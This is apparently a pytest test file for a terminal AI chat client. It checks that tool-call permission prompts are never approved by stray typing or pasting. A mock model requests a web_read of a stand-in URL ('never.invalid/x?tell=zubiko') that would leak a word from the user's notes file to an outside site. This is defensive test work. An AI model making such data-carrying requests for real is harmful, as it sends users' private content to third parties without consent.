"""Questions in a real terminal, while somebody types: nothing is allowed by accident."""

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.emulator import Emulator

ASKED = "@notes.txt sum it up"
TYPED = "any yaks may vanish away"
CALL = {
    "index": 0,
    "id": "c",
    "type": "function",
    "function": {
        "name": "web_read",
        "arguments": json.dumps({"address": "https://never.invalid/x?tell=zubiko"}),
    },
}
"""An address that would tell a site words that the user did not write: it is asked for."""


class Reaching:
    """A model that wants to read a page, when the test lets it, and then says what came of it."""

    def __init__(self) -> None:
        self.asked = threading.Event()
        """Set when the first question has come."""
        self.may_ask = threading.Event()
        self.results: list[str] = []
        reaching = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                messages = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                last = messages["messages"][-1]
                first = last["role"] == "user" and "sum it up" in last["content"]
                delta: dict[str, object] = {"content": "All done.\n"}
                if last["role"] == "tool":
                    reaching.results.append(last["content"])
                elif first:
                    reaching.asked.set()
                    reaching.may_ask.wait(30)
                    delta = {"tool_calls": [CALL]}
                end = "tool_calls" if first else "stop"
                self.send_response(200)
                self.send_header("Content-Type", "text/event-stream")
                self.end_headers()
                for choice in ({"delta": delta}, {"delta": {}, "finish_reason": end}):
                    line = json.dumps({"choices": [choice]}).encode()
                    self.wfile.write(b"data: " + line + b"\n\n")
                self.wfile.write(b"data: [DONE]\n\n")

            def log_message(self, *_: object) -> None:
                """Nothing is written into the test's output."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @property
    def refused(self) -> bool:
        """Whether the page was not allowed to be read."""
        return any("user" in result and "allow" in result for result in self.results)


@pytest.fixture
def model() -> Iterator[Reaching]:
    reaching = Reaching()
    thread = threading.Thread(target=reaching.server.serve_forever)
    thread.start()
    yield reaching
    reaching.may_ask.set()
    reaching.server.shutdown()
    thread.join()
    reaching.server.server_close()


@pytest.fixture
def home(tmp_path: Path, model: Reaching, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "notes.txt").write_text("The parrot is called Zubiko.\n")
    (tmp_path / "config.toml").write_text(
        'backend = "reaching"\n[memory]\nenabled = false\n[backends.reaching]\nkind = "openai"\n'
        f'model = "reaching"\nbase_url = "http://127.0.0.1:{model.server.server_port}/v1"\n'
    )
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.fixture
def window(home: Path) -> Iterator[Emulator]:
    one = Emulator(home, size=(80, 24))
    one.wait_for("Ask anything")
    yield one
    one.close()


@pytest.fixture
def lines(home: Path) -> Iterator[Emulator]:
    one = Emulator(home, ("repl",), size=(80, 40))
    one.wait_for("/help lists commands")
    one.wait_until(lambda: not one.line_mode)
    yield one
    one.close()


@pytest.mark.parametrize("pasted", [False, True])
def test_the_window_keeps_what_is_written(window: Emulator, model: Reaching, pasted: bool) -> None:
    window.type(f"{ASKED}\r")
    half = len(TYPED) // 2
    window.type(TYPED[:half])
    model.may_ask.set()
    window.type(f"\x1b[200~{TYPED[half:]}\x1b[201~" if pasted else TYPED[half:])
    window.wait_for("Ctrl+G leads here", TYPED, "waiting for you")
    assert model.results == []
    window.type("\x07n")
    window.wait_for("All done.", f"▌ {TYPED}")
    assert model.refused


def test_the_window_is_answered_by_its_key(window: Emulator, model: Reaching) -> None:
    model.may_ask.set()
    window.type(f"{ASKED}\r")
    window.wait_for("Ctrl+G leads here")
    window.type("\x07y")
    window.wait_for("All done.")
    assert not model.refused


def test_the_lines_keep_what_is_written(lines: Emulator, model: Reaching) -> None:
    lines.type(f"{ASKED}\r")
    lines.wait_until(model.asked.is_set)  # lines that come at one time were pasted
    lines.type("y\ra\r")
    half = len(TYPED) // 2
    lines.type(TYPED[:half])
    model.may_ask.set()
    lines.wait_for("/yes, /always", f"? {TYPED[:half]}")
    lines.type(TYPED[half:])
    assert model.results == []
    lines.type("\r")
    lines.wait_for("This waits until")
    lines.type("/yes\r")
    lines.wait_for(f"> {TYPED}")
    assert not model.refused
    assert len(model.results) == 1


def test_a_question_to_a_single_answer_takes_whole_lines_begun_after_it(
    home: Path, model: Reaching
) -> None:
    terminal = Emulator(home, ("ask", ASKED), size=(80, 40))
    try:
        terminal.type("make a")
        model.may_ask.set()
        terminal.wait_for("[y]es")
        terminal.type("\r")
        terminal.wait_for("That was no answer")
        terminal.type("yesterday\r")
        terminal.wait_until(lambda: terminal.text.count("That was no answer") == 2)
        assert model.results == []
        terminal.type("y\r")
        terminal.wait_for("All done.")
        assert not model.refused
    finally:
        terminal.close()
